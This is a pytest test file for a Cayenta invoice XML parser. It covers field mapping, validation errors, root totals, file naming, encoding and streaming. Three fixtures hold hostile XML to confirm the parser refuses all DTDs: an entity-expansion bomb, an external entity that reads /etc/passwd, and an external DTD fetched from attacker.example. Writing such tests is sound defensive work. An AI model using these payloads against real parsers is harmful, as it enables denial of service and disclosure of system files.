"""Cayenta billheader XML: the declarative element map, streaming, and hostile XML."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal

import pytest

from partners.bif import BifInvoice, FileRejected, InvalidInvoice
from partners.cayenta import invoices as cayenta
from partners.cayenta.invoices import parse

from .conftest import run, sample_bytes

SAMPLE = "billheader_20261120.xml"
BILL = (
    "<bill><invoiceNumber>{number}</invoiceNumber><billDate>{bill_date}</billDate><dueDate>2026-12-11</dueDate>"
    "<amountDue>{amount}</amountDue><customer><accountNumber>7001</accountNumber><name>ANN LEE</name></customer>"
    "</bill>"
)


def bill(number: str = "I-1", bill_date: str = "2026-11-20", amount: str = "10.00") -> str:
    return BILL.format(number=number, bill_date=bill_date, amount=amount)


def document(*bills: str, attrs: str = 'biller="1368"') -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<billheaders '
        + attrs
        + ">\n"
        + "\n".join(bills)
        + "\n</billheaders>\n"
    ).encode()


def parse_bytes(data: bytes, name: str = SAMPLE, bid: int = 1368) -> list:
    return run(parse, data, file_name=name, bid=bid)


def rejected(data: bytes, **kwargs) -> list[tuple[int, str]]:
    with pytest.raises(FileRejected) as caught:
        parse_bytes(data, **kwargs)
    return [(e.line, e.field) for e in caught.value.errors]


def test_sample_parses_to_exact_values():
    records = parse_bytes(sample_bytes(SAMPLE))
    assert all(isinstance(r, BifInvoice) for r in records) and [r.line for r in records] == [4, 53, 95]
    first, clinic, replacement = records
    assert first.header == {
        "RecordType": "N",
        "InvoiceNumber": "700125-20261120",
        "InvoiceDate": "11/20/2026",
        "InvoiceDueDate": "12/11/2026",
        "TotalAmountDue": "142.67",
        "BalanceDue": "142.67",
        "PastDue": "0.00",
        "Custom2": "C0048812",
        "Custom3": "P0099310",
        "Custom4": "1600 BATTLE CREEK RD",
        "Custom5": "07",
    }
    assert first.customer == {
        "AccountNumber": "700125",
        "CustomerName": "LATOYA JENKINS",
        "Address1": "1600 BATTLE CREEK RD",
        "City": "JONESBORO",
        "State": "GA",
        "Zip": "30236",
        "Phone": "7705550134",
        "EmailAddress": "ljenkins@example.com",
    }
    assert first.details[0] == {
        "CustomField1": "1",
        "CustomField3": "WATER",
        "CustomField4": "RES-W",
        "CustomField5": "M3381207",
        "CustomField6": "123410",
        "CustomField7": "118220",
        "CustomField9": "5190",
        "CustomField10": "61.42",
        "CustomField41": "10/16/2026",
        "CustomField43": "11/15/2026",
    }
    assert [d["CustomField10"] for d in first.details] == ["61.42", "72.50", "8.75"]
    assert first.due_date == date(2026, 12, 11) and first.total_amount_due == Decimal("142.67")
    assert (
        clinic.customer["CustomerName2"] == "ATTN: ACCOUNTS PAYABLE" and clinic.header["PastDue"] == "57.30"
    )
    assert replacement.record_type == "R" and replacement.customer["CustomerName"] == "TOM\u00c1S PE\u00d1A"
    assert "BalanceDue" not in replacement.header


def test_record_type_defaults_to_new_and_dates_may_be_bif_dates():
    [invoice] = parse_bytes(document(bill(bill_date="11/20/2026")))
    assert invoice.record_type == "N" and invoice.invoice_date == date(2026, 11, 20)


@pytest.mark.parametrize(
    "kwargs, field",
    [
        ({"bill_date": "2026-02-30"}, "billDate"),
        ({"amount": "1,00"}, "TotalAmountDue"),
        ({"number": ""}, "InvoiceNumber"),
    ],
)
def test_a_bad_bill_names_line_and_field_and_keeps_its_xml(kwargs, field):
    good, bad = parse_bytes(document(bill(), bill(**kwargs)))
    assert isinstance(good, BifInvoice)
    assert isinstance(bad, InvalidInvoice) and bad.line == 4 and bad.lines[0].startswith("<bill>")
    assert [(e.line, e.field) for e in bad.errors] == [(4, field)]


def test_a_bill_without_customer_is_invalid():
    [bad] = parse_bytes(
        document(
            "<bill><invoiceNumber>1</invoiceNumber><billDate>2026-11-20</billDate>"
            "<dueDate>2026-12-11</dueDate><amountDue>1.00</amountDue></bill>"
        )
    )
    assert [(e.line, e.field) for e in bad.errors] == [(3, "CR")]


@pytest.mark.parametrize(
    "attrs, field",
    [
        ('biller="2778"', "biller"),
        ('biller="1368" count="2"', "count"),
        ('biller="1368" total="11.00"', "total"),
        ('count="x"', "count"),
        ('total="1e2"', "total"),
    ],
)
def test_rejects_a_root_for_another_biller_or_with_wrong_totals(attrs, field):
    assert rejected(document(bill(), attrs=attrs)) == [(2, field)]


def test_root_totals_that_match_are_fine():
    assert len(parse_bytes(document(bill(), bill("I-2", amount="5.5"), attrs='count="2" total="15.50"'))) == 2


def test_rejects_another_root_or_a_foreign_child():
    assert rejected(b"<invoices><bill/></invoices>") == [(1, "root")]
    assert rejected(document(bill(), "<trailer><count>1</count></trailer>")) == [(4, "trailer")]


@pytest.mark.parametrize(
    "name", ["billheader.xml", "billheader_2026-11-20.xml", "bills_20261120.xml", "billheader_20261120.txt"]
)
def test_rejects_a_name_off_convention(name):
    assert rejected(sample_bytes(SAMPLE), name=name) == [(0, "file_name")]


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<billheaders><bill><invoiceNumber>&lol9;</invoiceNumber></bill></billheaders>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE billheaders [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<billheaders><bill><invoiceNumber>&xxe;</invoiceNumber></bill></billheaders>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE billheaders SYSTEM "http://attacker.example/evil.dtd">
<billheaders/>
"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_refuses_any_dtd_so_no_entity_is_ever_expanded(data):
    assert rejected(data) == [(2, "DTDForbidden")]


def test_rejects_malformed_xml_naming_the_line():
    assert rejected(document(bill(), "<bill><invoiceNumber>2</bill>")) == [(4, "xml")]
    assert rejected(b"") == [(1, "xml")]


def test_rejects_bytes_that_are_not_the_declared_encoding():
    assert rejected(
        document(bill(), bill().replace("ANN LEE", "ANN L\u00c9E")).replace(b"\xc3\x89", b"\xc9")
    ) == [(4, "xml")]


def test_rejects_an_unknown_declared_encoding():
    assert rejected(document(bill()).replace(b"UTF-8", b"TF-8")) == [(1, "encoding")]


def test_rejects_an_oversized_bill(monkeypatch):
    monkeypatch.setattr(cayenta, "MAX_BILL_ELEMENTS", 5)
    assert rejected(document(bill())) == [(3, "customer")]


def test_streams_bill_by_bill():
    stream = io.BytesIO(document(*(bill(f"I-{n}") for n in range(2000))))
    records = parse(stream, file_name=SAMPLE, bid=1368)
    first = next(records)
    assert isinstance(first, BifInvoice) and first.invoice_number == "I-0"
    assert stream.tell() < len(stream.getvalue())  # read in chunks, not the whole file up front
    assert sum(1 for _ in records) == 1999
